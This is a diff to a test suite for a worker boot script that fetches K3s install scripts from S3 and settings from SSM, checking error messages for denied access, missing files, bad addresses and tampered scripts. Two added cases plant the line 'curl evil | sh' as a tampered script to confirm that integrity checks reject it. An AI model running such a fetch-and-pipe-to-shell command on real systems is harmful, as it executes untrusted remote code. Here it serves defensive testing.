@@ -84,12 +84,12 @@ describeHosts(`a worker${CAN ? '' : ' (skipped: bash, curl, sha256sum or tar is 
     [
       'SSM says no',
       () => machine.parameters.deny('GetParameter'),
-      /FAILED while reading \/smartscale\/shop\/server-address from SSM: .*not authorized to perform: ssm:GetParameter.* To do: .*ssm:GetParameter/,
+      /FAILED while fetching the scripts from .*: .*not authorized to perform: ssm:GetParameter.* To do: .*ssm:GetParameter/,
     ],
     [
       'SSM is away',
       () => ({ SANDBOX_SSM: 'http://127.0.0.1:9' }),
-      /FAILED while reading .* from SSM: Could not connect to the endpoint URL.* To do: check the route to SSM/,
+      /FAILED while fetching the scripts from .*: Could not connect to the endpoint URL.* To do: check the route to SSM/,
     ],
     [
       'the checksum of K3s is wrong',
@@ -109,7 +109,25 @@ describeHosts(`a worker${CAN ? '' : ' (skipped: bash, curl, sha256sum or tar is 
     [
       'the release is not there',
       () => rmSync(join(machine.sandbox.s3, BUCKET, 'release/k3s/worker/steps.sh')),
-      /FAILED while fetching steps\.sh from s3:\/\/smartscale-shop-bucket: .*404.* To do: check the route to S3/,
+      /FAILED while fetching the scripts from s3:\/\/smartscale-shop-bucket: k3s\/worker\/steps\.sh: .*404.* To do: check the route to S3/,
+    ],
+    [
+      'a script is another than CDKTF wrote',
+      () => writeFileSync(join(machine.sandbox.s3, BUCKET, 'release/k3s/worker/join-token.sh'), 'curl evil | sh\n'),
+      /FAILED while fetching the scripts from .*: join-token\.sh is another than CDKTF wrote\. To do: .*run cdktf deploy/,
+    ],
+    [
+      'script and list are another than CDKTF wrote',
+      () => {
+        writeFileSync(join(machine.sandbox.s3, BUCKET, 'release/k3s/worker/join-token.sh'), 'curl evil | sh\n');
+        machine.sandbox.sign();
+      },
+      /FAILED while fetching the scripts from .*: SHA256SUMS is another than CDKTF wrote\. To do: /,
+    ],
+    [
+      'the address of the server is none',
+      () => void machine.parameters.put(`${PREFIX}server-address`, 'no address', { overwrite: true }),
+      /FAILED while telling where the server is: it is no address\. To do: run cdktf deploy/,
     ],
     [
       'the server lets nobody in',
@@ -147,6 +165,7 @@ describeHosts(`a worker${CAN ? '' : ' (skipped: bash, curl, sha256sum or tar is 
   it('a program that ends unforeseen is told with file and line, and stops everything', async () => {
     const steps = join(machine.sandbox.s3, BUCKET, 'release/k3s/worker/install.sh');
     writeFileSync(steps, readFileSync(steps, 'utf8').replace("step='writing the configuration of K3s'", 'false'));
+    machine.publish();
     const { code, said } = await boot();
     expect(code).not.toBe(0);
     expect(failures(said)).toEqual([expect.stringMatching(/line \d+ of install\.sh ended with 1/)]);
